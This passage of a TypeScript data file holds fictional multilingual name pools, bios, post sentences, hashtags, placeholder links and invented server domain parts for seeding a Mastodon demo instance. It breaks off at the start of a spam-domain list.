/**
 * Text pools for the demo instance. Everything is fictional: people, servers and links are made
 * up (domains mostly under reserved or invented names) so the demo never accuses a real server
 * or person of anything.
 */

export type Lang =
  | 'en' | 'de' | 'fr' | 'es' | 'ja' | 'pt' | 'nl' | 'it' | 'pl' | 'uk' | 'ru' | 'ar' | 'he' | 'ko' | 'zh' | 'sv' | 'fi' | 'eo' | 'el' | 'hi';

/** Share of each language among local users (a European-leaning general-purpose server). */
export const LOCAL_LANGS: readonly (readonly [Lang, number])[] = [
  ['en', 40], ['de', 18], ['fr', 8], ['es', 6], ['nl', 5], ['ja', 4], ['pt', 4], ['it', 3], ['pl', 3], ['sv', 2],
  ['uk', 2], ['fi', 1], ['eo', 1], ['ar', 1], ['he', 1], ['ko', 1],
];

/** Share among remote accounts (the wider fediverse). */
export const REMOTE_LANGS: readonly (readonly [Lang, number])[] = [
  ['en', 45], ['de', 12], ['ja', 9], ['fr', 6], ['es', 6], ['pt', 5], ['nl', 2], ['it', 2], ['pl', 2], ['ru', 2],
  ['uk', 1], ['zh', 2], ['ko', 1], ['ar', 1], ['he', 1], ['sv', 1], ['fi', 1], ['eo', 1], ['el', 1], ['hi', 1],
];

/** Mastodon UI locales (users.locale) matching each posting language. */
export const UI_LOCALE: Record<Lang, string> = {
  en: 'en', de: 'de', fr: 'fr', es: 'es', ja: 'ja', pt: 'pt-BR', nl: 'nl', it: 'it', pl: 'pl', uk: 'uk', ru: 'ru',
  ar: 'ar', he: 'he', ko: 'ko', zh: 'zh-CN', sv: 'sv', fi: 'fi', eo: 'eo', el: 'el', hi: 'hi',
};

// ---------------------------------------------------------------------------------------------
// People

interface NamePool {
  given: readonly string[];
  family: readonly string[];
  /** ASCII bases for usernames (romanised where the script is not Latin). */
  handles: readonly string[];
}

export const NAMES: Record<Lang, NamePool> = {
  en: {
    given: ['Alice', 'Ben', 'Chloe', 'Dan', 'Emma', 'Finn', 'Grace', 'Harvey', 'Isla', 'Jack', 'Kate', 'Liam', 'Maya', 'Noah', 'Olivia', 'Priya', 'Quinn', 'Rosa', 'Sam', 'Tom', 'Uma', 'Violet', 'Will', 'Zoe', 'Aiden', 'Brooke', 'Caleb', 'Dee', 'Eli', 'Fiona', 'Jordan', 'Morgan', 'Riley', 'Taylor'],
    family: ['Walker', 'Okafor', 'Nguyen', 'Patel', 'Murphy', 'Hughes', 'Brennan', 'Kowalski', 'Lindqvist', 'Chen', 'Thompson', 'Reyes', 'Fraser', 'MacLeod', 'Adeyemi', 'Baker', 'Carter', 'Ellis', 'Harper', 'Price'],
    handles: ['alice', 'ben', 'chloe', 'dan', 'emma', 'finn', 'grace', 'harvey', 'isla', 'jack', 'kate', 'liam', 'maya', 'noah', 'liv', 'priya', 'quinn', 'rosa', 'sam', 'tom', 'uma', 'violet', 'will', 'zoe', 'aiden', 'brooke', 'caleb', 'dee', 'eli', 'fiona', 'jordan', 'morgan', 'riley', 'taylor'],
  },
  de: {
    given: ['Anna', 'Lukas', 'Marie', 'Jonas', 'Sophie', 'Felix', 'Lena', 'Paul', 'Hannah', 'Leon', 'Mia', 'Tobias', 'Katrin', 'Jürgen', 'Ute', 'Björn', 'Jörg', 'Sabine', 'Dörte', 'Uwe', 'Merle', 'Henrik'],
    family: ['Schmidt', 'Müller', 'Schneider', 'Fischer', 'Weber', 'Wagner', 'Becker', 'Hoffmann', 'Schäfer', 'Koch', 'Bauer', 'Richter', 'Klein', 'Wolf', 'Schröder', 'Neumann', 'Zimmermann', 'Krüger', 'Hartmann', 'Lange'],
    handles: ['anna', 'lukas', 'marie', 'jonas', 'sophie', 'felix', 'lena', 'paul', 'hannah', 'leon', 'mia', 'tobi', 'katrin', 'juergen', 'ute', 'bjoern', 'joerg', 'sabine', 'doerte', 'uwe', 'merle', 'henrik'],
  },
  fr: {
    given: ['Camille', 'Léa', 'Hugo', 'Chloé', 'Louis', 'Manon', 'Théo', 'Inès', 'Jules', 'Élodie', 'Mathis', 'Zoé', 'Benoît', 'Océane', 'Gaëlle', 'Rémi'],
    family: ['Martin', 'Bernard', 'Dubois', 'Thomas', 'Robert', 'Richard', 'Petit', 'Durand', 'Leroy', 'Moreau', 'Lefèvre', 'Garnier', 'Faure', 'Rousseau', 'Blanc', 'Guérin'],
    handles: ['camille', 'lea', 'hugo', 'chloe', 'louis', 'manon', 'theo', 'ines', 'jules', 'elodie', 'mathis', 'zoe', 'benoit', 'oceane', 'gaelle', 'remi'],
  },
  es: {
    given: ['Lucía', 'Mateo', 'Sofía', 'Diego', 'Valentina', 'Hugo', 'Martina', 'Álvaro', 'Carmen', 'Javier', 'Irene', 'Pablo', 'Nuria', 'Andrés'],
    family: ['García', 'Fernández', 'González', 'Rodríguez', 'López', 'Martínez', 'Sánchez', 'Pérez', 'Gómez', 'Ruiz', 'Díaz', 'Moreno', 'Muñoz', 'Jiménez'],
    handles: ['lucia', 'mateo', 'sofia', 'diego', 'vale', 'hugo', 'martina', 'alvaro', 'carmen', 'javi', 'irene', 'pablo', 'nuria', 'andres'],
  },
  ja: {
    given: ['美咲', '翔太', 'さくら', '健太', '陽菜', '大輝', 'ゆい', '蓮', '葵', '悠斗', 'はるか', 'りょう'],
    family: ['佐藤', '鈴木', '高橋', '田中', '伊藤', '渡辺', '山本', '中村', '小林', '加藤'],
    handles: ['misaki', 'shota', 'sakura', 'kenta', 'hina', 'daiki', 'yui', 'ren', 'aoi', 'yuto', 'haruka', 'ryo', 'tanaka', 'sato', 'suzuki', 'nyanko', 'kumo'],
  },
  pt: {
    given: ['João', 'Maria', 'Gabriel', 'Ana', 'Lucas', 'Beatriz', 'Rafael', 'Júlia', 'Thiago', 'Larissa', 'Caio', 'Fernanda'],
    family: ['Silva', 'Santos', 'Oliveira', 'Souza', 'Rodrigues', 'Ferreira', 'Alves', 'Pereira', 'Lima', 'Gomes', 'Costa', 'Ribeiro'],
    handles: ['joao', 'maria', 'gabriel', 'ana', 'lucas', 'bia', 'rafa', 'julia', 'thiago', 'lari', 'caio', 'fe'],
  },
  nl: {
    given: ['Daan', 'Emma', 'Sem', 'Julia', 'Lucas', 'Tess', 'Bram', 'Fleur', 'Joost', 'Anouk', 'Sanne', 'Thijs'],
    family: ['de Jong', 'Jansen', 'de Vries', 'van den Berg', 'van Dijk', 'Bakker', 'Visser', 'Smit', 'Meijer', 'de Boer'],
    handles: ['daan', 'emma', 'sem', 'julia', 'lucas', 'tess', 'bram', 'fleur', 'joost', 'anouk', 'sanne', 'thijs'],
  },
  it: {
    given: ['Giulia', 'Francesco', 'Chiara', 'Alessandro', 'Sara', 'Lorenzo', 'Martina', 'Matteo', 'Federica', 'Niccolò'],
    family: ['Rossi', 'Russo', 'Ferrari', 'Esposito', 'Bianchi', 'Romano', 'Colombo', 'Ricci', 'Marino', 'Greco'],
    handles: ['giulia', 'france', 'chiara', 'ale', 'sara', 'lollo', 'marti', 'matteo', 'fede', 'nicco'],
  },
  pl: {
    given: ['Zofia', 'Jakub', 'Maja', 'Kacper', 'Łucja', 'Szymon', 'Agnieszka', 'Paweł', 'Małgorzata', 'Michał'],
    family: ['Nowak', 'Kowalska', 'Wiśniewski', 'Wójcik', 'Kamińska', 'Lewandowski', 'Zielińska', 'Szymański', 'Woźniak', 'Dąbrowski'],
    handles: ['zosia', 'kuba', 'maja', 'kacper', 'lucja', 'szymon', 'aga', 'pawel', 'gosia', 'michal'],
  },
  uk: {
    given: ['Олена', 'Андрій', 'Ірина', 'Тарас', 'Оксана', 'Богдан', 'Марія', 'Дмитро', 'Юлія', 'Остап'],
    family: ['Шевченко', 'Коваленко', 'Бондаренко', 'Ткаченко', 'Кравчук', 'Мельник', 'Бойко', 'Лисенко'],
    handles: ['olena', 'andriy', 'iryna', 'taras', 'oksana', 'bohdan', 'mariia', 'dmytro', 'yuliia', 'ostap'],
  },
  ru: {
    given: ['Анна', 'Дмитрий', 'Екатерина', 'Сергей', 'Наталья', 'Алексей', 'Ольга', 'Максим'],
    family: ['Иванова', 'Смирнов', 'Кузнецова', 'Попов', 'Соколова', 'Лебедев', 'Морозова', 'Волков'],
    handles: ['anya', 'dima', 'katya', 'sergey', 'natasha', 'lyosha', 'olga', 'max'],
  },
  ar: {
    given: ['ليلى', 'عمر', 'سارة', 'يوسف', 'نور', 'كريم', 'مريم', 'حسن'],
    family: ['حسن', 'العلي', 'منصور', 'خليل', 'سعيد', 'الحداد', 'ناصر'],
    handles: ['layla', 'omar', 'sara', 'yousef', 'nour', 'karim', 'maryam', 'hassan'],
  },
  he: {
    given: ['נועה', 'איתי', 'תמר', 'יונתן', 'מאיה', 'עומר'],
    family: ['כהן', 'לוי', 'מזרחי', 'פרץ', 'ביטון', 'אברהם'],
    handles: ['noa', 'itai', 'tamar', 'yoni', 'maya', 'omer'],
  },
  ko: {
    given: ['지민', '서연', '민준', '하은', '도윤', '수아'],
    family: ['김', '이', '박', '최', '정', '강'],
    handles: ['jimin', 'seoyeon', 'minjun', 'haeun', 'doyun', 'sua'],
  },
  zh: {
    given: ['伟', '芳', '娜', '敏', '静', '磊', '婷', '洋'],
    family: ['王', '李', '张', '刘', '陈', '杨', '黄', '赵'],
    handles: ['wei', 'fang', 'na', 'min', 'jing', 'lei', 'ting', 'yang', 'xiaolong', 'mao'],
  },
  sv: {
    given: ['Elsa', 'Oskar', 'Astrid', 'Nils', 'Ebba', 'Axel', 'Saga', 'Linnea'],
    family: ['Andersson', 'Johansson', 'Karlsson', 'Nilsson', 'Eriksson', 'Lindqvist', 'Berg', 'Åberg'],
    handles: ['elsa', 'oskar', 'astrid', 'nils', 'ebba', 'axel', 'saga', 'linnea'],
  },
  fi: {
    given: ['Aino', 'Eetu', 'Venla', 'Onni', 'Helmi', 'Väinö', 'Siiri', 'Juho'],
    family: ['Korhonen', 'Virtanen', 'Mäkinen', 'Nieminen', 'Mäkelä', 'Hämäläinen', 'Laine', 'Heikkinen'],
    handles: ['aino', 'eetu', 'venla', 'onni', 'helmi', 'vaino', 'siiri', 'juho'],
  },
  eo: {
    given: ['Zamenhof', 'Ludoviko', 'Klara', 'Mirinda', 'Stelo', 'Espero'],
    family: ['Verda', 'Stelano', 'Ĉielo', 'Pacema', 'Ŝipano'],
    handles: ['verda', 'stelo', 'espero', 'klara', 'ludo', 'mirinda'],
  },
  el: {
    given: ['Ελένη', 'Γιώργος', 'Μαρία', 'Νίκος', 'Σοφία', 'Δημήτρης'],
    family: ['Παπαδόπουλος', 'Οικονόμου', 'Γεωργίου', 'Νικολάου', 'Βασιλείου'],
    handles: ['eleni', 'giorgos', 'maria', 'nikos', 'sofia', 'dimitris'],
  },
  hi: {
    given: ['प्रिया', 'अर्जुन', 'अनन्या', 'राहुल', 'दीपिका', 'विक्रम'],
    family: ['शर्मा', 'वर्मा', 'गुप्ता', 'सिंह', 'पटेल', 'अय्यर'],
    handles: ['priya', 'arjun', 'ananya', 'rahul', 'deepika', 'vikram'],
  },
};

/** Decorations people put in display names. */
export const NAME_SUFFIXES: readonly string[] = [
  ' (she/her)', ' (he/him)', ' (they/them)', ' 🏳️‍🌈', ' 🌱', ' :verified:', ' 🦣', ' 📷', ' ☕', ' 🎸', ' :blobcat:', ' 🇪🇺', ' 🏳️‍⚧️', ' 🐘',
  ' | on holiday', ' 🔜 #FediCon', ' ✨', ' 🧶', ' 🚲',
];

export const USERNAME_DECOR: readonly string[] = ['', '', '', '', '_', '42', '_dev', '_art', 'codes', '_', '1987', 'writes', '_photo', 'x', '99', '_de', '_jp', 'bot', '_', 'lab'];

export const BIOS: Record<Lang, readonly string[]> = {
  en: [
    'Software developer by day, amateur astronomer by night.', 'Librarian. Cyclist. Occasional baker of questionable bread.',
    'PhD student in computational linguistics. Opinions my own.', 'Birdwatcher, bad photographer, good listener.',
    'I post about gardening, trains and the occasional cat.', 'Illustrator. Commissions closed.',
    'Nurse on night shifts — replies may be slow.', 'Tabletop RPGs, synths, and very long walks.',
    'Former journalist, now growing tomatoes.', 'Open-source maintainer. Please read CONTRIBUTING.md.',
    'Here for the quiet timeline.', 'Moved here from the bird site in 2022.',
  ],
  de: [
    'Softwareentwicklerin aus Leipzig. Mag Kaffee und Fahrräder.', 'Lehrer, Vater, Hobbyfotograf.', 'Hier wird über Bahn, Politik und Brot geschrieben.',
    'Bibliothekarin mit Hang zu Krimis.', 'Physiker im Ruhestand. Jetzt Gärtner.', 'Radfahren, Brettspiele, Open Source.',
    'Pflegekraft. Schichtdienst. Meinungen privat.', 'Hier seit der großen Migration 2022.',
  ],
  fr: [
    'Développeuse web à Lyon. Café, vélo et logiciels libres.', 'Prof de maths, amateur de jeux de société.',
    'Photographe du dimanche, randonneur du samedi.', 'Bibliothécaire. Je parle de livres et de chats.',
    'Étudiant en histoire. Pas très sérieux.',
  ],
  es: [
    'Periodista freelance. Escribo sobre clima y ciudades.', 'Diseñadora gráfica en Valencia.', 'Profe de música y fan del software libre.',
    'Fotografía analógica y montañas.', 'Aquí para charlar, no para pelear.',
  ],
  ja: ['エンジニアです。猫と写真が好き。', '東京在住のイラストレーター。', '読書と散歩の記録。', 'ゲーム開発者。趣味はキャンプ。', 'のんびり投稿します。'],
  pt: ['Desenvolvedora e leitora compulsiva.', 'Professor de geografia. Fotografia nas horas vagas.', 'Designer em São Paulo. Café e gatos.', 'Aqui falo de música brasileira e software livre.'],
  nl: ['Fietser, programmeur en koffiedrinker.', 'Bibliothecaris in Utrecht.', 'Hier voor de rust en de vogels.', 'Leraar, tuinier, treinliefhebber.'],
  it: ['Sviluppatrice a Bologna. Caffè e montagna.', 'Fotografo amatoriale.', 'Insegnante di storia, lettore vorace.'],
  pl: ['Programistka z Krakowa. Koty i góry.', 'Nauczyciel fizyki. Rower i książki.', 'Tłumaczka. Herbata i jazz.'],
  uk: ['Розробниця з Києва. Кава та книжки.', 'Фотограф і мандрівник.', 'Пишу про історію та музику.'],
  ru: ['Программист. Люблю кошек и горы.', 'Учитель литературы.', 'Фотограф-любитель.'],
  ar: ['مطورة برمجيات ومحبة للقراءة.', 'مصور هاوٍ من عمّان.', 'أكتب عن التقنية والأدب.'],
  he: ['מפתחת תוכנה מתל אביב.', 'צלם חובב ואוהב טבע.', 'כותב על מוזיקה וספרים.'],
  ko: ['서울에 사는 개발자입니다.', '사진과 고양이를 좋아해요.', '책 읽고 글 씁니다.'],
  zh: ['程序员，喜欢猫和咖啡。', '摄影爱好者。', '写一些关于开源的东西。'],
  sv: ['Utvecklare i Göteborg. Kaffe och cyklar.', 'Bibliotekarie och fågelskådare.', 'Lärare, löpare, läsare.'],
  fi: ['Ohjelmistokehittäjä Tampereelta.', 'Valokuvaaja ja retkeilijä.', 'Opettaja ja kirjojen ystävä.'],
  eo: ['Esperantisto ekde 2015. Mi ŝatas librojn kaj kafon.', 'Programisto kaj lingvoŝatanto.'],
  el: ['Προγραμματίστρια από την Αθήνα.', 'Φωτογράφος και ταξιδιώτης.'],
  hi: ['दिल्ली से सॉफ्टवेयर डेवलपर।', 'किताबें और चाय पसंद हैं।'],
};

export const PROFILE_FIELD_NAMES: readonly string[] = ['Pronouns', 'Website', 'Location', 'Languages', 'Blog', 'Pronomen', 'Pronoms', 'Matrix', 'GitHub', 'Timezone'];
export const PROFILE_FIELD_VALUES: Record<string, readonly string[]> = {
  Pronouns: ['she/her', 'he/him', 'they/them', 'any'],
  Pronomen: ['sie/ihr', 'er/ihm', 'keine'],
  Pronoms: ['elle', 'il', 'iel'],
  Location: ['Leipzig', 'Lyon', 'Toronto', 'Osaka', 'Porto', 'Utrecht', 'Kraków', 'Melbourne', 'Nairobi', 'the internet'],
  Languages: ['en, de', 'fr, en', 'es, ca, en', 'ja, en', 'nl, en, de'],
  Timezone: ['UTC+1', 'UTC-5', 'UTC+9', 'UTC'],
  Matrix: ['@me:matrix.example'],
};

// ---------------------------------------------------------------------------------------------
// Posts

export const SENTENCES: Record<Lang, readonly string[]> = {
  en: [
    'Finally finished the bookshelf I started building in March.', 'The train was late again, but the sunset from the window made up for it.',
    'Does anyone have a good recipe for sourdough that does not take three days?', 'Spent the afternoon repotting every single plant on the balcony.',
    'Reminder that your backups are only as good as your last restore test.', 'Just saw a heron land on the canal right outside the office.',
    'New blog post about self-hosting a small Mastodon server for my family.', 'I keep coming back to this album. It gets better every time.',
    'Our local library now lends out sewing machines and I love it.', 'Hot take: tabs versus spaces matters less than a consistent formatter.',
    'First frost of the season. The garden is officially asleep.', 'Three hours of debugging and it was a missing semicolon. Classic.',
    'Anyone going to the community meetup next week?', 'The new bike lane on Main Street is already full of delivery vans.',
    'Reading group this month: a very long Russian novel. Wish us luck.', 'Made soup. That is the post.',
    'Thank you all for the kind replies yesterday, it really helped.', 'Looking for recommendations: accessible board games for a mixed group?',
    'The cat has decided the keyboard is a heated bed now.', 'Just donated to the server fund — small instances need support too.',
    'Climate strike on Friday, meeting at the town hall at noon.', 'Photography tip: shoot the blue hour, not just the golden one.',
  ],
  de: [
    'Endlich das Regal fertig gebaut, das seit März im Flur lag.', 'Die Bahn hatte wieder 40 Minuten Verspätung. Immerhin gab es Kaffee.',
    'Hat jemand ein gutes Rezept für Sauerteigbrot?', 'Heute den ganzen Nachmittag im Garten verbracht.',
    'Erinnerung: Backups sind nur so gut wie der letzte Wiederherstellungstest.', 'Neuer Blogbeitrag über den Betrieb eines kleinen Mastodon-Servers.',
    'Der erste Frost ist da. Die Tomaten haben es nicht geschafft.', 'Die Stadtbibliothek verleiht jetzt Nähmaschinen. Großartig!',
    'Wer kommt nächste Woche zum Stammtisch?', 'Drei Stunden Fehlersuche, am Ende war es ein Tippfehler.',
    'Heute gibt es Linsensuppe. Mehr gibt es nicht zu sagen.', 'Danke für die vielen lieben Antworten gestern!',
    'Freitag ist Klimastreik, Treffpunkt am Rathaus um 12 Uhr.', 'Die Katze hält die Tastatur für eine Heizdecke.',
    'Suche Empfehlungen für barrierefreie Brettspiele.', 'Der neue Radweg ist schon wieder zugeparkt.',
  ],
  fr: [
    'Enfin fini l’étagère commencée en mars.', 'Le train avait encore du retard, mais le coucher de soleil valait le coup.',
    'Quelqu’un a une bonne recette de pain au levain ?', 'Après-midi passé à rempoter toutes les plantes du balcon.',
    'Nouvel article de blog sur l’auto-hébergement d’une petite instance Mastodon.', 'Première gelée de la saison, le jardin s’endort.',
    'Trois heures de débogage pour un point-virgule manquant.', 'Merci pour vos réponses d’hier, ça m’a beaucoup aidé.',
    'La médiathèque prête maintenant des machines à coudre !', 'Grève pour le climat vendredi, rendez-vous devant la mairie.',
    'Le chat a décidé que le clavier était un lit chauffant.', 'Ce soir : soupe au potiron et bon livre.',
  ],
  es: [
    'Por fin terminé la estantería que empecé en marzo.', 'El tren volvió a llegar tarde, pero el atardecer compensó.',
    '¿Alguien tiene una buena receta de pan de masa madre?', 'Nueva entrada en el blog sobre cómo alojar un servidor Mastodon pequeño.',
    'Primera helada de la temporada. El huerto ya duerme.', 'Tres horas depurando y era un punto y coma.',
    'La biblioteca del barrio ahora presta máquinas de coser.', 'Gracias por todas las respuestas de ayer.',
    'Huelga por el clima el viernes, nos vemos en el ayuntamiento.', 'El gato ha decidido que el teclado es su cama.',
  ],
  ja: [
    '三月から作っていた本棚がやっと完成した。', '電車がまた遅れたけど、夕焼けがきれいだった。', 'サワードウのいいレシピを知っている人いますか？',
    '午後はずっとベランダの植物の植え替えをしていた。', 'バックアップは復元テストをして初めて意味がある。', '小さなマストドンサーバーの運用についてブログを書きました。',
    '今シーズン初めての霜。', '三時間デバッグしてセミコロンが原因だった。', '猫がキーボードの上で寝ている。', '今日はカレーを作った。それだけ。',
  ],
  pt: [
    'Finalmente terminei a estante que comecei em março.', 'O trem atrasou de novo, mas o pôr do sol compensou.',
    'Alguém tem uma boa receita de pão de fermentação natural?', 'Novo post no blog sobre hospedar um servidor Mastodon pequeno.',
    'Três horas depurando e era um ponto e vírgula.', 'O gato decidiu que o teclado é uma cama quentinha.',
    'A biblioteca do bairro agora empresta máquinas de costura!', 'Obrigada pelas respostas de ontem, ajudaram muito.',
  ],
  nl: [
    'Eindelijk de boekenkast af die ik in maart begon.', 'De trein was weer te laat, maar de zonsondergang maakte veel goed.',
    'Iemand een goed recept voor zuurdesembrood?', 'Drie uur debuggen en het was een puntkomma.',
    'De kat denkt dat het toetsenbord een verwarmd bed is.', 'Nieuwe blogpost over het draaien van een kleine Mastodon-server.',
  ],
  it: [
    'Finalmente ho finito la libreria iniziata a marzo.', 'Il treno era di nuovo in ritardo, ma il tramonto era bellissimo.',
    'Qualcuno ha una buona ricetta per il pane con lievito madre?', 'Tre ore di debug per un punto e virgola.',
    'Il gatto ha deciso che la tastiera è il suo letto.', 'Nuovo articolo sul blog su come gestire un piccolo server Mastodon.',
  ],
  pl: [
    'W końcu skończyłam regał, który zaczęłam w marcu.', 'Pociąg znowu się spóźnił, ale zachód słońca to wynagrodził.',
    'Ktoś ma dobry przepis na chleb na zakwasie?', 'Trzy godziny debugowania i chodziło o średnik.',
    'Kot uznał, że klawiatura to podgrzewane łóżko.',
  ],
  uk: [
    'Нарешті дозбирала полицю, яку почала в березні.', 'Потяг знову запізнився, але захід сонця був чудовий.',
    'Хтось має добрий рецепт хліба на заквасці?', 'Три години дебагу, а причина — крапка з комою.', 'Кіт вирішив, що клавіатура — це тепла ковдра.',
  ],
  ru: [
    'Наконец-то доделала книжную полку.', 'Поезд опять опоздал, зато закат был красивый.', 'Три часа отладки, а дело было в точке с запятой.',
    'Кот решил, что клавиатура — это грелка.',
  ],
  ar: ['أخيرًا انتهيت من رف الكتب الذي بدأته في مارس.', 'تأخر القطار مرة أخرى، لكن الغروب كان جميلًا.', 'هل لدى أحدكم وصفة جيدة لخبز العجين المخمر؟', 'القطة قررت أن لوحة المفاتيح سريرها الجديد.'],
  he: ['סוף סוף סיימתי את מדף הספרים שהתחלתי במרץ.', 'הרכבת שוב איחרה, אבל השקיעה הייתה מדהימה.', 'למישהו יש מתכון טוב ללחם מחמצת?', 'החתול החליט שהמקלדת היא מיטה מחוממת.'],
  ko: ['3월부터 만들던 책장을 드디어 완성했다.', '기차가 또 늦었지만 노을이 예뻤다.', '세 시간 디버깅했는데 세미콜론 하나 때문이었다.', '고양이가 키보드를 침대로 쓰기로 했다.'],
  zh: ['终于做完了三月开始做的书架。', '火车又晚点了，不过夕阳很美。', '调试了三个小时，原来是少了一个分号。', '猫决定把键盘当成暖床了。'],
  sv: ['Äntligen klar med bokhyllan jag började på i mars.', 'Tåget var sent igen, men solnedgången var fin.', 'Tre timmars felsökning för ett semikolon.', 'Katten har bestämt att tangentbordet är en säng.'],
  fi: ['Sain vihdoin valmiiksi kirjahyllyn, jonka aloitin maaliskuussa.', 'Juna oli taas myöhässä, mutta auringonlasku oli kaunis.', 'Kolme tuntia debuggausta ja syy oli puolipiste.'],
  eo: ['Fine mi finis la librobreton, kiun mi komencis en marto.', 'La trajno denove malfruis, sed la sunsubiro estis bela.', 'Tri horoj da sencimigo pro unu punktokomo.'],
  el: ['Επιτέλους τελείωσα τη βιβλιοθήκη που ξεκίνησα τον Μάρτιο.', 'Το τρένο άργησε πάλι, αλλά το ηλιοβασίλεμα ήταν υπέροχο.', 'Τρεις ώρες αποσφαλμάτωση για ένα ερωτηματικό.'],
  hi: ['आखिरकार मार्च में शुरू की गई किताबों की अलमारी पूरी हो गई।', 'ट्रेन फिर से लेट थी, लेकिन सूर्यास्त सुंदर था।', 'तीन घंटे डिबगिंग और वजह एक सेमीकोलन निकली।'],
};

export const HASHTAGS: Record<Lang, readonly string[]> = {
  en: ['Gardening', 'Photography', 'Caturday', 'OpenSource', 'Books', 'Cycling', 'Baking', 'SelfHosting', 'Birds', 'ClimateAction', 'MastoAdmin', 'Fediverse'],
  de: ['Garten', 'Fotografie', 'Bahn', 'Fahrrad', 'Backen', 'Katzen', 'OpenSource', 'Klimaschutz', 'Fediverse'],
  fr: ['Jardinage', 'Photographie', 'LogicielLibre', 'Vélo', 'Lecture', 'Chats', 'Climat'],
  es: ['Fotografía', 'Jardinería', 'SoftwareLibre', 'Bicicleta', 'Libros', 'Gatos'],
  ja: ['写真', '猫', '読書', '料理', '自転車'],
  pt: ['Fotografia', 'SoftwareLivre', 'Livros', 'Gatos', 'Música'],
  nl: ['Fotografie', 'Fietsen', 'Tuinieren', 'Katten'],
  it: ['Fotografia', 'Libri', 'Gatti', 'Montagna'],
  pl: ['Fotografia', 'Książki', 'Koty', 'Rower'],
  uk: ['Фото', 'Книги', 'Коти'],
  ru: ['Фото', 'Книги', 'Коты'],
  ar: ['تصوير', 'كتب', 'قطط'],
  he: ['צילום', 'ספרים', 'חתולים'],
  ko: ['사진', '고양이', '책'],
  zh: ['摄影', '猫', '读书'],
  sv: ['Fotografi', 'Katter', 'Cykling'],
  fi: ['Valokuvaus', 'Kissat', 'Kirjat'],
  eo: ['Esperanto', 'Libroj'],
  el: ['Φωτογραφία', 'Γάτες'],
  hi: ['फोटोग्राफी', 'किताबें'],
};

export const LINKS: readonly string[] = [
  'https://blog.kettle.town/2026/self-hosting-for-families', 'https://www.example.com/articles/library-of-things', 'https://news.example.net/climate/heatwave-record',
  'https://docs.joinmastodon.example/admin/moderation', 'https://git.example.org/tools/backup-check', 'https://photos.example.com/album/blue-hour',
  'https://wiki.example.org/wiki/Sourdough', 'https://bandcamp.example/album/quiet-rooms', 'https://www.example.org/events/community-meetup',
];

export const CONTENT_WARNINGS: readonly string[] = [
  'politics', 'US politics', 'food', 'mental health', 'eye contact', 'spoilers: the finale', 'long post', 'alcohol', 'death mention', 'lewd',
  'medical', 'Politik', 'santé mentale', 'política', 'ネタバレ', 'violence (news)', 'swearing', 'meta / fedi drama', 'bugs (the insect kind)',
];

export const ALT_TEXTS: Record<string, readonly string[]> = {
  en: [
    'A tabby cat asleep on a laptop keyboard, one paw covering its eyes.', 'Sunset over a canal with narrow houses on both sides.',
    'A loaf of sourdough bread with a deep ear, cut open to show an airy crumb.', 'Balcony full of potted herbs and a small tomato plant.',
    'Screenshot of a terminal showing a successful database restore.', 'A grey heron standing on a concrete canal edge.',
    'Hand-drawn map of a fantasy island with mountains in the north.', 'A bicycle leaning against a red brick wall in the rain.',
    'Bookshelf made of pale wood, mostly empty, with three plants on top.', 'Chart of daily active users over a year, rising steadily.',
  ],
  de: ['Eine getigerte Katze schläft auf einer Tastatur.', 'Sonnenuntergang über einem Kanal.', 'Ein frisch gebackenes Sauerteigbrot.', 'Ein Fahrrad an einer Backsteinmauer.'],
  fr: ['Un chat tigré endormi sur un clavier.', 'Coucher de soleil sur un canal.', 'Une miche de pain au levain.'],
  es: ['Un gato atigrado dormido sobre un teclado.', 'Atardecer sobre un canal.', 'Una hogaza de pan de masa madre.'],
  ja: ['キーボードの上で眠るトラ猫。', '運河に沈む夕日。', '焼きたてのパン。'],
};

// ---------------------------------------------------------------------------------------------
// Servers

/** Parts for invented server names: `<prefix>.<word>.<tld>` or `<word><suffix>.<tld>`. */
export const DOMAIN_WORDS: readonly string[] = [
  'kettle', 'fernweh', 'lumen', 'birch', 'harbor', 'quietplace', 'tinkerers', 'nordlicht', 'pixelgarden', 'chaosnest', 'bitforge', 'mapleleaf',
  'saltmarsh', 'teapot', 'lowtide', 'floss', 'hackerspace', 'synthwave', 'riverbend', 'clocktower', 'moonbase', 'sunroom', 'paperboat',
  'woodpecker', 'compost', 'beehive', 'ravenclaw', 'lighthouse', 'openfield', 'tram', 'fjord', 'bicycle', 'lanterne', 'colmena', 'sakura',
  'kaffee', 'zeitgeist', 'nebula', 'orbit', 'glitch', 'retro', 'hexagon', 'quill', 'inkwell', 'ferret', 'otter', 'badger', 'heron', 'puffin',
  'gecko', 'cactus', 'fern', 'mossy', 'granite', 'pebble', 'dune', 'glacier', 'aurora', 'meadow', 'orchard', 'vineyard', 'bakery', 'makers',
  'typewriter', 'vinyl', 'jukebox', 'arcade', 'cinema', 'poetry', 'sketch', 'canvas', 'darkroom', 'telescope', 'radio', 'morse', 'signal',
];
export const DOMAIN_PREFIXES: readonly string[] = ['mastodon', 'social', 'mstdn', 'toot', 'masto', 'fedi', 'm', 'fe', 'sns', 'pl', 'gts', 'misskey', 'akkoma'];
export const DOMAIN_SUFFIXES: readonly string[] = ['.social', '.town', '.cafe', '.zone', '.space', '.club', '.online', '.party', '.garden', '.city', '.world'];
export const TLDS: readonly (readonly [string, number])[] = [
  ['social', 12], ['org', 10], ['de', 8], ['net', 6], ['online', 4], ['xyz', 4], ['io', 4], ['fr', 3], ['nl', 3], ['jp', 3], ['uk', 2],
  ['es', 2], ['it', 2], ['se', 2], ['fi', 1], ['pl', 2], ['br', 2], ['ca', 2], ['au', 1], ['ch', 1], ['at', 1], ['be', 1], ['dk', 1],
  ['tech', 2], ['dev', 2], ['art', 1], ['lgbt', 1], ['zone', 2], ['town', 2], ['cafe', 1], ['space', 2], ['club', 1], ['example', 3],
];

/** Servers with non-ASCII names; stored as punycode like Mastodon does (Unicode form for display). */
export const IDN_DOMAINS: readonly string[] = [
  'mastodón.example', 'bücher.example', 'соцсеть.example', 'マストドン.example', 'café.social', 'ñandú.example', 'straße.example', 'κοινότητα.example',
  'طيور.example',
];

/** Named servers the demo refers to explicitly (docs and tests rely on them). */
export const SPECIAL_DOMAINS = {
  /** Its instance actor files reports (Flags) against local users. */
  flagger: 'mstdn.example',
  /** Parent domain with a Limit block; its accounts live on the subdomain below. */
  parent: 'example.org',
  subdomain: 'social.example.org',
  /** Source of the spam wave. */
  spam: 'spam-wave.example',
  /** Suspended long ago for hosting harassment campaigns. */
  harassment: 'hatefront.example',
  /** Remote server whose users post the hostile-markup test posts. */
  hostile: 'xss.example',
} as const;

export const SPAM_DOMAIN_NAMES: readonly string[] = [
